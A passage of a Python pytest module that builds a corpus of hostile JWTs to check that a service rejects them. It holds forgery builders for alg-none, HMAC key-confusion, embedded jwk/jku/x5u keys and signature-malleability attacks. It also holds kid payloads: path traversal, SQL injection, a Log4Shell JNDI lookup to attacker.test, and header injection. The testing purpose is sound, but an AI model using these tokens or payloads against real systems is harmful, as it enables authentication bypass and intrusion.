"""JWT attack corpus (issue 5 §1): hostile tokens and Authorization headers against the real app.

Each case is sent through the app (lifespan, middleware, error table) as
`Authorization: Bearer <token>` on `GET /api/{sub}/tasks`. It must get a 401 problem with code
`invalid_token`, or `missing_token` when the header carries no credential. It must never get a
2xx or a 5xx. It must answer within MAX_SECONDS, which guards against hangs and is not a
benchmark. The one 503 DESIGN allows ("keys cannot be had") has its own test, run with the
JWKS host down. The respx router also records every outbound request, and each case checks that
nothing went anywhere but the issuer's JWKS URL (no `jku`, no `x5u`, no `kid` that is a URL).

The issuer here publishes one key for every algorithm Better Auth can use (and ES384, which the
default allow-list does not name). It also publishes two keys the service must ignore: an `oct` key
and a key with `use: enc`. Positive controls at the end send good tokens through the same
plumbing, so the module would fail if the service rejected everything.

Public test vectors: Wycheproof's `json_web_signature_test.json` (Apache-2.0), RFC 7520 and
RFC 8037 all sign non-JSON payloads (`foo`, prose). This service parses the claims before it
looks up the key, so every one of those vectors, the "valid" ones included, would be rejected
with "payload is not valid JSON" and never reach the check it was written for. They do not fit
an end-to-end corpus, so we build the same attacks with real keys instead (the ECDSA edge
signatures, DER in place of r||s, HMAC with the public key, embedded jwk).

Layout: key material and token builders, then one table per attack class, then the tests.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import itertools
import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import respx
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from joserfc import jwe
from joserfc.jwk import ECKey, OKPKey, RSAKey
from joserfc.jws import JWSRegistry

from service.testing import FakeBetterAuth, SigningKey, b64url, new_kid
from support.app import ISSUER_URL, new_user_id, running_app, test_settings

MAX_SECONDS = 1.0  # per request: a hang guard, not a benchmark
ATTACKER_URL = "http://attacker.test"
LEEWAY_SECONDS = 30  # Settings.jwt_leeway_seconds
MAX_TOKEN_BYTES = 8192  # Settings.max_token_bytes

# Group orders, for signatures with r or s equal to n: SEC 2 (as `openssl ecparam -param_enc explicit`
# prints them) and RFC 8032.
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P521_ORDER = int(
    "01ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"
    "fa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409",
    16,
)
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


# --- encoding helpers -------------------------------------------------------------------------


class Raw(str):
    """JSON text inserted verbatim where a value would go: `NaN`, `1e400`, a 401-digit integer."""


DROP = object()  # a header or claim member to leave out


def to_json(value: Any) -> bytes:
    """Compact JSON like Better Auth's, with Raw values spliced in as they are."""
    raws: dict[str, str] = {}

    def swap(item: Any) -> Any:
        if isinstance(item, Raw):
            placeholder = f"@@raw{len(raws)}@@"
            raws[json.dumps(placeholder)] = str(item)
            return placeholder
        if isinstance(item, dict):
            return {k: swap(v) for k, v in item.items() if v is not DROP}
        if isinstance(item, list):
            return [swap(v) for v in item]
        return item

    text = json.dumps(swap(value), separators=(",", ":"))
    for placeholder, raw in raws.items():
        text = text.replace(placeholder, raw)
    return text.encode()


def as_bytes(part: dict | list | str | bytes) -> bytes:
    """A header or payload given as an object (-> JSON), as str (UTF-8) or as exact bytes."""
    if isinstance(part, bytes):
        return part
    if isinstance(part, str) and not isinstance(part, Raw):
        return part.encode()
    return to_json(part)


def sign_segments(header_segment: str, payload_segment: str, private: Any, alg: str) -> str:
    """Sign the two segments exactly as written (even when they are not canonical base64url)."""
    signature = JWSRegistry.algorithms[alg].sign(f"{header_segment}.{payload_segment}".encode("latin-1"), private)
    return f"{header_segment}.{payload_segment}.{b64url(signature)}"


def sign(header: Any, payload: Any, private: Any, alg: str) -> str:
    return sign_segments(b64url(as_bytes(header)), b64url(as_bytes(payload)), private, alg)


def hmac_sign(header: Any, payload: Any, secret: bytes, alg: str) -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    signing_input = f"{b64url(as_bytes(header))}.{b64url(as_bytes(payload))}"
    return f"{signing_input}.{b64url(hmac.new(secret, signing_input.encode(), digest).digest())}"


def unsigned(header: Any, payload: Any, signature: bytes = b"") -> str:
    return f"{b64url(as_bytes(header))}.{b64url(as_bytes(payload))}.{b64url(signature)}"


def split_signature(token: str) -> tuple[str, bytes]:
    signing_input, _, signature = token.rpartition(".")
    return signing_input, base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))


def unaligned_json(value: Any) -> bytes:
    """JSON whose base64url form ends in a partial quantum (JSON allows trailing spaces)."""
    data = as_bytes(value)
    while len(data) % 3 == 0:
        data += b" "
    return data


def with_stray_bits(segment: str) -> str:
    """The same bytes, spelled with the unused low bits of the last character set."""
    assert len(segment) % 4 in (2, 3), "needs a partial final quantum"
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) | 1]


def padded(segment: str) -> str:
    return segment + "=" * (-len(segment) % 4)


def standard_alphabet(segment: str) -> str:
    return segment.replace("-", "+").replace("_", "/")


def nested(depth: int) -> Raw:
    return Raw("[" * depth + "]" * depth)


def ecdsa_int(value: int, size: int) -> bytes:
    return value.to_bytes(size, "big")


# --- key material -----------------------------------------------------------------------------


@dataclass(frozen=True)
class KeyMaterial:
    """Made once per module (RSA generation is slow); every test gets a fresh app on top of it."""

    published: dict[str, SigningKey]  # the issuer's JWKS, by name
    attacker: dict[str, Any]  # private keys that are not in the JWKS, by type
    oct_secret: bytes  # an `oct` key in the JWKS: the service must ignore it
    enc_key: SigningKey  # an EC key published with `use: enc`: not a signing key
    attacker_cert_der: bytes  # a self-signed certificate for attacker["P-256"]


def _self_signed(private: Any) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer.test")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(private, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.DER)


@pytest.fixture(scope="module")
def material() -> KeyMaterial:
    factories = {
        "EdDSA-2": ("EdDSA", lambda: OKPKey.generate_key("Ed25519")),
        "ES256": ("ES256", lambda: ECKey.generate_key("P-256")),
        "ES384": ("ES384", lambda: ECKey.generate_key("P-384")),
        "ES512": ("ES512", lambda: ECKey.generate_key("P-521")),
        "RS256": ("RS256", lambda: RSAKey.generate_key(2048)),
        "PS256": ("PS256", lambda: RSAKey.generate_key(2048)),
        "EdDSA": ("EdDSA", lambda: OKPKey.generate_key("Ed25519")),  # last: the current key
    }
    published = {name: SigningKey(kid=new_kid(), alg=alg, private=make()) for name, (alg, make) in factories.items()}
    attacker = {
        "Ed25519": OKPKey.generate_key("Ed25519"),
        "P-256": ECKey.generate_key("P-256"),
        "P-521": ECKey.generate_key("P-521"),
        "RSA": RSAKey.generate_key(2048),
    }
    return KeyMaterial(
        published=published,
        attacker=attacker,
        oct_secret=b"an oct key the service must never use",
        enc_key=SigningKey(kid=new_kid(), alg="ES256", private=ECKey.generate_key("P-256")),
        attacker_cert_der=_self_signed(attacker["P-256"].get_op_key("sign")),
    )


class CorpusIssuer(FakeBetterAuth):
    """Better Auth's JWKS plus entries the service must skip: an `oct` key and a `use: enc` key."""

    extra: list[dict[str, Any]]

    def jwks(self) -> dict[str, Any]:
        return {"keys": [*super().jwks()["keys"], *self.extra]}


@pytest.fixture(scope="module")
def issuer(material: KeyMaterial) -> CorpusIssuer:
    """Overrides conftest's issuer, so jwks_router and start_app serve this key set."""
    issuer = CorpusIssuer(ISSUER_URL)
    issuer.keys = list(material.published.values())
    issuer.extra = [
        {"kty": "oct", "kid": "oct-hmac-key", "alg": "HS256", "k": b64url(material.oct_secret)},
        {**material.enc_key.public_jwk(), "use": "enc"},
    ]
    return issuer


@pytest.fixture(scope="module")
def jwks_router(issuer: CorpusIssuer):
    """Module-wide (overrides conftest's): one app serves the whole corpus, started once."""
    with respx.mock(assert_all_called=True, assert_all_mocked=True) as router:
        issuer.mock(router)
        yield router


@pytest.fixture(scope="module")
async def client(database_url: str, issuer: CorpusIssuer, jwks_router):
    async with running_app(test_settings(database_url, issuer)) as client:
        yield client


@pytest.fixture
def outbound(jwks_router) -> list[httpx.Request]:
    """Every request the app sends out, matched by respx or not (an unmatched one also raises)."""
    seen: list[httpx.Request] = []
    resolve, aresolve = jwks_router.resolve, jwks_router.aresolve

    def record(request: httpx.Request):
        seen.append(request)
        return resolve(request)

    async def arecord(request: httpx.Request):
        seen.append(request)
        return await aresolve(request)

    jwks_router.resolve, jwks_router.aresolve = record, arecord
    yield seen
    jwks_router.resolve, jwks_router.aresolve = resolve, aresolve


@dataclass
class Kit:
    """What a case needs to build its token: the issuer, its keys, the attacker's keys, a user."""

    issuer: CorpusIssuer
    material: KeyMaterial
    user: str

    def key(self, name: str = "EdDSA") -> SigningKey:
        return self.material.published[name]

    def attacker(self, kind: str) -> Any:
        return self.material.attacker[kind]

    def claims(self, **overrides: Any) -> dict[str, Any]:
        """Better Auth's claims for our user; DROP as a value removes a claim."""
        return {**self.issuer.claims_for(self.user), **overrides}

    def header(self, name: str = "EdDSA", **members: Any) -> dict[str, Any]:
        key = self.key(name)
        return {"alg": key.alg, "kid": key.kid, **members}

    def token(self, name: str = "EdDSA", *, header: dict | None = None, claims: dict | None = None) -> str:
        """A token signed by a published key; `header`/`claims` override members (DROP removes)."""
        key = self.key(name)
        return sign(self.header(name, **(header or {})), self.claims(**(claims or {})), key.private, key.alg)

    def signed_by(self, name: str, header: Any, payload: Any | None = None) -> str:
        """Exactly `header` and `payload` (objects or bytes), signed by a published key."""
        key = self.key(name)
        return sign(header, self.claims() if payload is None else payload, key.private, key.alg)


@dataclass(frozen=True)
class Attack:
    """A token plus the user to name in the path (when it is not the kit's user)."""

    token: str
    user: str


Build = Callable[[Kit], "str | Attack"]


@pytest.fixture
def kit(issuer: CorpusIssuer, material: KeyMaterial) -> Kit:
    return Kit(issuer=issuer, material=material, user=new_user_id())


# --- sending and judging ----------------------------------------------------------------------


def header_bytes(value: str | bytes) -> bytes:
    if isinstance(value, bytes):
        return value
    try:
        return value.encode("latin-1")  # what a server hands the app: bytes, latin-1 at most
    except UnicodeEncodeError:
        return value.encode("utf-8", "surrogatepass")


def path_for(user: str) -> str:
    return "/api/" + quote(user.encode("utf-8", "surrogatepass"), safe="") + "/tasks"


async def timed_get(client: httpx.AsyncClient, path: str, **kwargs: Any) -> tuple[httpx.Response, float]:
    started = time.perf_counter()
    try:
        response = await client.get(path, **kwargs)
    except Exception as exc:  # the in-process transport re-raises what would be a 500
        pytest.fail(f"the app raised {type(exc).__name__}: {exc} (an HTTP 500 behind a real server)")
    return response, time.perf_counter() - started


def assert_refused(
    response: httpx.Response,
    elapsed: float,
    outbound: list[httpx.Request],
    jwks_url: str,
    *,
    code: str = "invalid_token",
    secret: str = "",
) -> None:
    assert elapsed < MAX_SECONDS, f"took {elapsed:.2f} s"
    assert response.status_code == 401, f"{response.status_code}: {response.text[:300]}"
    assert response.headers["content-type"] == "application/problem+json"
    body = response.json()
    assert body["status"] == 401 and body["code"] == code, body
    challenge = response.headers["www-authenticate"]
    assert challenge.startswith("Bearer "), response.headers
    # RFC 6750 §3: error_description is visible ASCII (%x20-21 / %x23-5B / %x5D-7E) inside quotes.
    assert all(0x20 <= ord(c) <= 0x7E for c in challenge), f"non-ASCII challenge {challenge!r}"
    if len(secret) > 64:  # the token is never echoed back (a kid of up to 64 chars may be)
        assert secret not in response.text and secret not in challenge
    assert_only_jwks_fetched(outbound, jwks_url)


def assert_only_jwks_fetched(outbound: list[httpx.Request], jwks_url: str) -> None:
    elsewhere = [str(request.url) for request in outbound if str(request.url) != jwks_url]
    assert not elsewhere, f"the service fetched {elsewhere}"
    assert all(request.method == "GET" for request in outbound)


# --- token builders used by several tables ----------------------------------------------------


def hmac_with_public_key(kit: Kit, alg: str, name: str, encoding: str) -> str:
    key = kit.key(name)
    public = key.private.get_op_key("verify")
    jwk = key.public_jwk()
    member = "n" if jwk["kty"] == "RSA" else "x"
    if jwk["kty"] == "OKP":
        raw = public.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    elif jwk["kty"] == "EC":
        raw = public.public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
    else:
        n = public.public_numbers().n
        raw = n.to_bytes((n.bit_length() + 7) // 8, "big")
    secrets = {
        "jwk-json": json.dumps(jwk).encode(),
        "jwk-json-compact": json.dumps(jwk, separators=(",", ":")).encode(),
        "pem-spki": public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo),
        "pem-spki-no-final-newline": public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ).rstrip(b"\n"),
        "der-spki": public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo),
        "raw-bytes": raw,
        "jwk-member": jwk[member].encode(),  # the base64url text of x (OKP, EC) or n (RSA)
        "jwk-member-decoded": base64.urlsafe_b64decode(jwk[member] + "=" * (-len(jwk[member]) % 4)),
    }
    if encoding == "pem-pkcs1":
        secrets[encoding] = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
    return hmac_sign({"alg": alg, "kid": key.kid}, kit.claims(), secrets[encoding], alg)


def forged_by(kit: Kit, attacker_kind: str, alg: str, header: dict[str, Any]) -> str:
    """Signed with an attacker's key (not in the JWKS) under `header`."""
    return sign({"alg": alg, **header}, kit.claims(), kit.attacker(attacker_kind), alg)


def attacker_public_jwk(kit: Kit, kind: str, kid: str | None = None) -> dict[str, Any]:
    jwk = kit.attacker(kind).as_dict(private=False)
    return {**jwk, "kid": kid} if kid else jwk


def jwe_to_the_rsa_key(kit: Kit) -> str:
    """A real JWE (five segments) encrypted to the issuer's RS256 public key, claims inside."""
    key = kit.key("RS256")
    public = RSAKey.import_key(key.public_jwk())
    protected = {"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": key.kid}
    return jwe.encrypt_compact(protected, to_json(kit.claims()), public, algorithms=["RSA-OAEP-256", "A256GCM"])


def mangled(kit: Kit, name: str, change: Callable[[bytes], bytes]) -> str:
    """A valid token of a published key with its signature bytes passed through `change`."""
    signing_input, signature = split_signature(kit.token(name))
    return f"{signing_input}.{b64url(change(signature))}"


def ecdsa_edge(kit: Kit, name: str, r: int | None, s: int | None) -> str:
    """r and/or s replaced (None keeps the real one), in JOSE's fixed-width r||s form."""
    size = {"ES256": 32, "ES512": 66}[kit.key(name).alg]

    def change(signature: bytes) -> bytes:
        new_r = signature[:size] if r is None else ecdsa_int(r, size)
        new_s = signature[size:] if s is None else ecdsa_int(s, size)
        return new_r + new_s

    return mangled(kit, name, change)


def ecdsa_der(kit: Kit, name: str) -> str:
    """The signature ASN.1 DER-encoded (as OpenSSL makes it) instead of JOSE's fixed r||s."""
    key = kit.key(name)
    hash_alg = {"ES256": hashes.SHA256(), "ES512": hashes.SHA512()}[key.alg]
    signing_input, _ = split_signature(kit.token(name))
    der = key.private.get_op_key("sign").sign(signing_input.encode(), ec.ECDSA(hash_alg))
    return f"{signing_input}.{b64url(der)}"


def ecdsa_swapped(kit: Kit, name: str) -> str:
    size = {"ES256": 32, "ES512": 66}[kit.key(name).alg]
    return mangled(kit, name, lambda signature: signature[size:] + signature[:size])


def eddsa_s_plus_order(kit: Kit) -> str:
    """Ed25519 malleability: S + L encodes the same scalar mod L; RFC 8032 requires S < L."""

    def change(signature: bytes) -> bytes:
        s = int.from_bytes(signature[32:], "little") + ED25519_ORDER
        return signature[:32] + s.to_bytes(32, "little")

    return mangled(kit, "EdDSA", change)


def rsa_signature_edge(kit: Kit, name: str, edge: str) -> str:
    n = kit.key(name).private.get_op_key("verify").public_numbers().n
    size = (n.bit_length() + 7) // 8
    change = {
        "zero": lambda signature: bytes(size),
        "one": lambda signature: (1).to_bytes(size, "big"),
        "modulus": lambda signature: n.to_bytes(size, "big"),
        "leading-zero-byte": lambda signature: b"\x00" + signature,
        "truncated": lambda signature: signature[:-1],
    }[edge]
    return mangled(kit, name, change)


def under_kid(kit: Kit, alg: str, kid_of: str) -> str:
    """Validly signed by our `alg` key, but naming the kid of the published key `kid_of`."""
    return sign({"alg": alg, "kid": kit.key(kid_of).kid}, kit.claims(), kit.key(alg).private, alg)


def signed_with_other_alg(kit: Kit, name: str, header_alg: str, signing_alg: str) -> str:
    """A published key's own signature made with `signing_alg`, under a header naming `header_alg`."""
    key = kit.key(name)
    return sign({"alg": header_alg, "kid": key.kid}, kit.claims(), key.private, signing_alg)


def reencoded(kit: Kit, part: str, spell: Callable[[str], str]) -> str:
    """A token whose header, payload or signature segment is spelled differently, signed over what
    is sent, so only the encoding check can reject it."""
    key = kit.key("EdDSA")
    header = b64url(unaligned_json(kit.header()))
    payload = b64url(unaligned_json(kit.claims()))
    if part == "header":
        return sign_segments(spell(header), payload, key.private, key.alg)
    if part == "payload":
        return sign_segments(header, spell(payload), key.private, key.alg)
    h, p, s = sign_segments(header, payload, key.private, key.alg).split(".")
    return f"{h}.{p}.{spell(s)}"


def with_standard_alphabet(kit: Kit, part: str) -> str:
    """A segment holding `+` or `/` (standard base64) instead of `-` or `_`, signed over what is sent."""
    if part == "signature":
        for _ in range(64):  # ECDSA signatures are random: one soon contains '-' or '_'
            token = kit.token("ES256")
            h, p, s = token.split(".")
            if "-" in s or "_" in s:
                return f"{h}.{p}.{standard_alphabet(s)}"
        raise AssertionError("no ECDSA signature with '-' or '_' in 64 tries")
    key = kit.key("EdDSA")
    for filler in range(256):
        header = kit.header(x="?" * filler) if part == "header" else kit.header()
        claims = kit.claims(name="~" * filler + "?>") if part == "payload" else kit.claims()
        h, p = b64url(as_bytes(header)), b64url(as_bytes(claims))
        target = h if part == "header" else p
        if "-" in target or "_" in target:
            h, p = (standard_alphabet(h), p) if part == "header" else (h, standard_alphabet(p))
            return sign_segments(h, p, key.private, key.alg)
    raise AssertionError("no filler gave '-' or '_'")


def padded_to(kit: Kit, size: int) -> str:
    """A valid EdDSA token of exactly `size` bytes, grown through a filler claim and header member."""
    for header_filler in range(4):
        base = len(kit.token(header={"p": "p" * header_filler}, claims={"filler": ""}))
        start = max(0, (size - base) * 3 // 4 - 8)  # base64url: 4 characters per 3 bytes
        for claim_filler in range(start, start + 32):
            token = kit.token(header={"p": "p" * header_filler}, claims={"filler": "f" * claim_filler})
            if len(token) >= size:
                break
        if len(token) == size:
            return token
    raise AssertionError(f"cannot make a token of exactly {size} bytes")


def json_serialization(token: str) -> str:
    """The same JWS in the flattened JSON serialization (RFC 7515 §7.2.2) instead of compact."""
    protected, payload, signature = token.split(".")
    return json.dumps({"payload": payload, "protected": protected, "signature": signature}, separators=(",", ":"))


def insert(token: str, position: int, text: str) -> str:
    return token[:position] + text + token[position:]


def after_dot(token: str, text: str) -> str:
    head, _, rest = token.partition(".")
    return f"{head}.{text}{rest}"


def odd_encoding(kit: Kit, part: str, data: bytes) -> str:
    """A header or payload whose JSON bytes are `data` (bad UTF-8, UTF-16, a BOM), signed for real."""
    key = kit.key("EdDSA")
    if part == "header":
        return sign(data, kit.claims(), key.private, key.alg)
    return sign(kit.header(), data, key.private, key.alg)


def header_text_with(kit: Kit, value: bytes) -> bytes:
    """The EdDSA header as JSON text with one extra member whose string holds `value`."""
    return b'{"alg":"EdDSA","kid":"' + kit.key().kid.encode() + b'","x":"' + value + b'"}'


def claims_text_with(kit: Kit, value: bytes) -> bytes:
    return to_json(kit.claims())[:-1] + b',"x":"' + value + b'"}'


def dup_claims(kit: Kit, member: str, first: Any, second: Any, spelled: str | None = None) -> bytes:
    """Claims JSON with `member` twice: `first` then `second` (optionally spelled with escapes)."""
    claims = kit.claims(**{member: DROP})
    text = to_json(claims)[:-1].decode()
    return f'{text},"{member}":{json.dumps(first)},"{spelled or member}":{json.dumps(second)}}}'.encode()


# --- the tables -------------------------------------------------------------------------------
# Each table is a list of pytest.param(build, id=...); build(kit) returns the token (or an Attack).

NONE_SPELLINGS = ["".join(letters) for letters in itertools.product(*((c, c.upper()) for c in "none"))]

ALG_NONE = [
    param
    for spelling in NONE_SPELLINGS
    for param in (
        pytest.param(
            lambda k, a=spelling: unsigned({"alg": a, "kid": k.key().kid}, k.claims(), b"\x00" * 64),
            id=f"alg-none/{spelling}/with-signature",
        ),
        pytest.param(
            lambda k, a=spelling: unsigned({"alg": a, "kid": k.key().kid}, k.claims()),
            id=f"alg-none/{spelling}/empty-signature",
        ),
    )
] + [
    pytest.param(
        lambda k: unsigned({"alg": "none", "kid": k.key().kid}, k.claims())[:-1], id="alg-none/none/no-third-segment"
    ),
    pytest.param(lambda k: unsigned({"alg": "none"}, k.claims(), b"\x00" * 64), id="alg-none/none/no-kid"),
    pytest.param(
        lambda k: unsigned({"alg": "none", "kid": k.key().kid}, k.claims(), split_signature(k.token())[1]),
        id="alg-none/none/real-signature-kept",
    ),
]

ALG_NAMES = [
    pytest.param(lambda k: k.token(header={"alg": "eddsa"}), id="alg/eddsa-lowercase"),
    pytest.param(lambda k: k.token("ES256", header={"alg": "es256"}), id="alg/es256-lowercase"),
    pytest.param(lambda k: k.token("RS256", header={"alg": "Rs256"}), id="alg/Rs256-mixed-case"),
    pytest.param(lambda k: k.token(header={"alg": "EdDSA "}), id="alg/trailing-space"),
    pytest.param(lambda k: k.token(header={"alg": "EdDSA\x00"}), id="alg/trailing-nul"),
    pytest.param(lambda k: k.token(header={"alg": "Ed25519"}), id="alg/Ed25519-not-in-allow-list"),
    pytest.param(lambda k: k.token("ES384"), id="alg/ES384-published-key-not-in-allow-list"),
    pytest.param(lambda k: signed_with_other_alg(k, "RS256", "RS512", "RS512"), id="alg/RS512-not-in-allow-list"),
    pytest.param(lambda k: signed_with_other_alg(k, "PS256", "PS384", "PS384"), id="alg/PS384-not-in-allow-list"),
    pytest.param(lambda k: k.token(header={"alg": DROP}), id="alg/missing"),
    pytest.param(lambda k: k.token(header={"alg": ""}), id="alg/empty"),
    pytest.param(lambda k: k.token(header={"alg": None}), id="alg/null"),
    pytest.param(lambda k: k.token(header={"alg": 256}), id="alg/number"),
    pytest.param(lambda k: k.token(header={"alg": ["EdDSA"]}), id="alg/array"),
    pytest.param(lambda k: k.token(header={"alg": {"name": "EdDSA"}}), id="alg/object"),
    pytest.param(lambda k: k.token(header={"alg": "нет"}), id="alg/non-latin-1"),
    pytest.param(lambda k: k.token(header={"alg": "nöne"}), id="alg/latin-1-non-ascii"),
]

HMAC_ENCODINGS = [
    "jwk-json",
    "jwk-json-compact",
    "pem-spki",
    "pem-spki-no-final-newline",
    "der-spki",
    "raw-bytes",
    "jwk-member",
    "jwk-member-decoded",
]
HMAC_CONFUSION = [
    pytest.param(
        lambda k, a=alg, n=name, e=encoding: hmac_with_public_key(k, a, n, e),
        id=f"hmac-with-public-key/{alg}/{name}/{encoding}",
    )
    for alg in ("HS256", "HS384", "HS512")
    for name in ("EdDSA", "ES256", "RS256")
    for encoding in HMAC_ENCODINGS + (["pem-pkcs1"] if name == "RS256" else [])
] + [
    pytest.param(
        lambda k: hmac_sign({"alg": "HS256", "kid": "oct-hmac-key"}, k.claims(), k.material.oct_secret, "HS256"),
        id="hmac-with-public-key/HS256/oct-key-published-in-jwks",
    ),
]

EMBEDDED_KEYS = [
    pytest.param(
        lambda k: forged_by(
            k, "Ed25519", "EdDSA", {"kid": "attacker", "jwk": attacker_public_jwk(k, "Ed25519", "attacker")}
        ),
        id="embedded/jwk/attacker-kid",
    ),
    pytest.param(
        lambda k: forged_by(
            k, "Ed25519", "EdDSA", {"kid": k.key().kid, "jwk": attacker_public_jwk(k, "Ed25519", k.key().kid)}
        ),
        id="embedded/jwk/issuer-kid",
    ),
    pytest.param(
        lambda k: forged_by(k, "Ed25519", "EdDSA", {"jwk": attacker_public_jwk(k, "Ed25519")}), id="embedded/jwk/no-kid"
    ),
    pytest.param(
        lambda k: forged_by(k, "P-256", "ES256", {"kid": k.key("ES256").kid, "jwk": attacker_public_jwk(k, "P-256")}),
        id="embedded/jwk/es256-issuer-kid",
    ),
    pytest.param(
        lambda k: hmac_sign(
            {"alg": "HS256", "jwk": {"kty": "oct", "k": b64url(b"attacker secret")}},
            k.claims(),
            b"attacker secret",
            "HS256",
        ),
        id="embedded/jwk/oct-key-hs256",
    ),
    pytest.param(
        lambda k: forged_by(k, "Ed25519", "EdDSA", {"kid": "attacker", "jku": f"{ATTACKER_URL}/jwks.json"}),
        id="embedded/jku/attacker-kid",
    ),
    pytest.param(
        lambda k: forged_by(k, "Ed25519", "EdDSA", {"kid": k.key().kid, "jku": f"{ATTACKER_URL}/jwks.json"}),
        id="embedded/jku/issuer-kid",
    ),
    pytest.param(
        lambda k: forged_by(
            k, "Ed25519", "EdDSA", {"kid": "attacker", "jku": f"{ISSUER_URL}/api/auth/jwks/../../../evil"}
        ),
        id="embedded/jku/issuer-host-path-traversal",
    ),
    pytest.param(
        lambda k: forged_by(k, "P-256", "ES256", {"kid": "attacker", "x5u": f"{ATTACKER_URL}/cert.pem"}),
        id="embedded/x5u/attacker-kid",
    ),
    pytest.param(
        lambda k: forged_by(k, "P-256", "ES256", {"kid": k.key("ES256").kid, "x5u": f"{ATTACKER_URL}/cert.pem"}),
        id="embedded/x5u/issuer-kid",
    ),
    pytest.param(
        lambda k: forged_by(k, "P-256", "ES256", {"x5c": [base64.b64encode(k.material.attacker_cert_der).decode()]}),
        id="embedded/x5c/self-signed-no-kid",
    ),
    pytest.param(
        lambda k: forged_by(
            k,
            "P-256",
            "ES256",
            {"kid": k.key("ES256").kid, "x5c": [base64.b64encode(k.material.attacker_cert_der).decode()]},
        ),
        id="embedded/x5c/self-signed-issuer-kid",
    ),
    pytest.param(
        lambda k: forged_by(
            k,
            "P-256",
            "ES256",
            {"kid": k.key("ES256").kid, "x5t#S256": b64url(hashlib.sha256(k.material.attacker_cert_der).digest())},
        ),
        id="embedded/x5t-S256/attacker-cert-thumbprint",
    ),
    pytest.param(
        lambda k: forged_by(k, "Ed25519", "EdDSA", {"kid": f"{ATTACKER_URL}/jwks.json"}), id="embedded/kid-is-a-url"
    ),
]

KID_VALUES: list[tuple[str, Any]] = [
    ("path-traversal", "../../../../../../etc/passwd"),
    ("path-traversal-dev-null", "../../../../../../dev/null"),
    ("path-traversal-encoded", "..%2f..%2f..%2fetc%2fpasswd"),
    ("path-traversal-windows", "..\\..\\..\\windows\\win.ini"),
    ("file-url", "file:///etc/passwd"),
    ("sql-or-true", "' OR '1'='1"),
    ("sql-drop", "x'; DROP TABLE tasks; --"),
    ("sql-union", "x' UNION SELECT 'secret' --"),
    ("sql-double-quote", '" OR 1=1 --'),
    ("log4shell", "${jndi:ldap://attacker.test/a}"),
    ("template", "{{7*7}}"),
    ("proto", "__proto__"),
    ("header-injection", "x\r\nSet-Cookie: session=attacker"),
    ("nul-suffix", DROP),  # filled in below: the real kid + NUL
    ("case-changed", DROP),  # the real kid upper-cased
    ("trailing-space", DROP),  # the real kid + " "
    ("latin-1-non-ascii", "clé"),
    ("non-latin-1", "ключ"),
    ("emoji", "🔑"),
    ("257-chars", "k" * 257),
    ("4-kib", "k" * 4096),
    ("10-kib", "k" * 10 * 1024),
    ("empty", ""),
    ("missing", DROP),
    ("null", None),
    ("zero", 0),
    ("number", 1),
    ("float", 1.5),
    ("true", True),
    ("object", {}),
    ("object-holding-the-kid", DROP),
    ("array", []),
    ("array-holding-the-kid", DROP),
]


def kid_case(kit: Kit, case: str, value: Any) -> str:
    real = kit.key().kid
    value = {
        "nul-suffix": real + "\x00",
        "case-changed": real.swapcase(),
        "trailing-space": real + " ",
        "object-holding-the-kid": {"kid": real},
        "array-holding-the-kid": [real],
    }.get(case, value)
    return kit.token(header={"kid": value})


KIDS = [pytest.param(lambda k, c=case, v=value: kid_case(k, c, v), id=f"kid/{case}") for case, value in KID_VALUES]

CRIT_AND_B64 = [
    pytest.param(lambda k: k.token(header={"crit": ["x-unknown"], "x-unknown": True}), id="crit/unknown-member"),
    pytest.param(lambda k: k.token(header={"crit": ["exp"]}), id="crit/registered-claim-name"),
    pytest.param(lambda k: k.token(header={"crit": []}), id="crit/empty-list"),
    pytest.param(lambda k: k.token(header={"crit": "x-unknown"}), id="crit/not-a-list"),
    pytest.param(lambda k: k.token(header={"crit": ["b64"], "b64": True}), id="crit/b64-true"),
    pytest.param(lambda k: k.token(header={"b64": False}), id="b64-false/without-crit-encoded-payload"),
    pytest.param(lambda k: k.token(header={"b64": False, "crit": ["b64"]}), id="b64-false/with-crit-encoded-payload"),
    pytest.param(
        lambda k: (
            (h := b64url(as_bytes(k.header(b64=False, crit=["b64"]))))
            + "."
            + to_json(k.claims()).decode()
            + "."
            + b64url(JWSRegistry.algorithms["EdDSA"].sign(h.encode() + b"." + to_json(k.claims()), k.key().private))
        ),
        id="b64-false/unencoded-payload-rfc7797",
    ),
    pytest.param(
        lambda k: (
            (h := b64url(as_bytes(k.header(b64=False, crit=["b64"]))))
            + ".."
            + b64url(JWSRegistry.algorithms["EdDSA"].sign(h.encode() + b"." + to_json(k.claims()), k.key().private))
        ),
        id="b64-false/detached-payload",
    ),
]

SEGMENTS = [
    pytest.param(lambda k: k.token().split(".")[0], id="segments/1"),
    pytest.param(lambda k: ".".join(k.token().split(".")[:2]), id="segments/2"),
